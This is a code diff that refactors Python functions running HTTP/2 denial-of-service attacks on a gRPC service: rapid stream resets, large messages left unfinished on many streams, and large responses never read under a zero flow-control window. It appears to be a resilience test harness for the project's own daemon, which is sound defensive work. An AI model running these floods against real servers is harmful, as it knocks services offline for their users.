@@ -5,7 +5,7 @@ import socket
 import time
 from collections import Counter
 from collections.abc import Iterator, Sequence
-from typing import Final
+from typing import Final, NamedTuple
 
 import h2.config
 import h2.connection
@@ -14,6 +14,17 @@ import h2.exceptions
 import h2.settings
 
 SERVICE: Final = "/purgatory.v1.PurgatoryService/"
+MEGABYTE: Final = 1024 * 1024
+
+
+class Target(NamedTuple):
+    """The daemon to attack, and the duration."""
+
+    grpc: str
+    """Address of gRPC, host:port."""
+    seconds: float
+    token: str
+    """The attacker's token; empty: none."""
 
 
 class RawConnection:
@@ -90,10 +101,10 @@ def until(deadline_s: float) -> Iterator[None]:
         yield
 
 
-def rapid_reset(address: str, token: str, seconds: float) -> Counter[str]:
+def rapid_reset(target: Target) -> Counter[str]:
     """Open streams and reset each immediately, on one connection; reconnect when it is closed."""
-    connection, done = RawConnection(address, token), Counter[str]()
-    for _ in until(time.monotonic() + seconds):
+    connection, done = RawConnection(target.grpc, target.token), Counter[str]()
+    for _ in until(time.monotonic() + target.seconds):
         for _ in range(200):
             stream = connection.call("Wait")
             connection.http2.reset_stream(stream)
@@ -103,21 +114,20 @@ def rapid_reset(address: str, token: str, seconds: float) -> Counter[str]:
             connection.read(0.001)
         except OSError:
             connection.close()
-            connection = RawConnection(address, token)
+            connection = RawConnection(target.grpc, target.token)
             done["closed"] += 1
     connection.close()
     return done
 
 
 def unfinished_messages(
-    address: str, token: str, seconds: float, *, length: int, streams: int, firsts: Sequence[tuple[str, bytes]]
-) -> int:
-    """Send everything except the end of a large message on each of many streams; return the bytes that the server
-    accepted.
+    target: Target, *, length: int, streams: int, firsts: Sequence[tuple[str, bytes]]
+) -> Counter[str]:
+    """Send everything except the end of a message of `length` bytes on each of many streams.
 
     `firsts`: methods, used in turn, each with the message to send before the large one; b"": none.
     """
-    connections = [RawConnection(address, token) for _ in range(5)]
+    connections = [RawConnection(target.grpc, target.token) for _ in range(5)]
     open_streams = []
     left: dict[tuple[int, int], int] = {}
     for number in range(streams):
@@ -130,7 +140,7 @@ def unfinished_messages(
         connection.send(stream, message(length))
         left[id(connection), stream] = length - 1
     filler, taken = bytes(1 << 14), 0
-    for _ in until(time.monotonic() + seconds):
+    for _ in until(time.monotonic() + target.seconds):
         for connection, stream in open_streams:
             rest = left[id(connection), stream]
             if rest and stream not in connection.ended:
@@ -145,18 +155,18 @@ def unfinished_messages(
                 connection.read(0.001)
     for connection in connections:
         connection.close()
-    return taken
+    return Counter(taken_mb=taken // MEGABYTE)
 
 
-def unread_answers(address: str, token: str, seconds: float, *, calls: int, method: str, request: bytes) -> int:
+def unread_answers(target: Target, *, calls: int, method: str, request: bytes) -> Counter[str]:
     """Request large responses with a flow-control window of 0, and never read them."""
-    connection = RawConnection(address, token, initial_window=0)
+    connection = RawConnection(target.grpc, target.token, initial_window=0)
     for _ in range(calls):
         stream = connection.call(method)
         connection.send(stream, message(len(request), request))
         connection.http2.end_stream(stream)
     connection.flush()
-    for _ in until(time.monotonic() + seconds):
+    for _ in until(time.monotonic() + target.seconds):
         connection.read(0.05)
     connection.close()
-    return calls
+    return Counter(unread=calls)
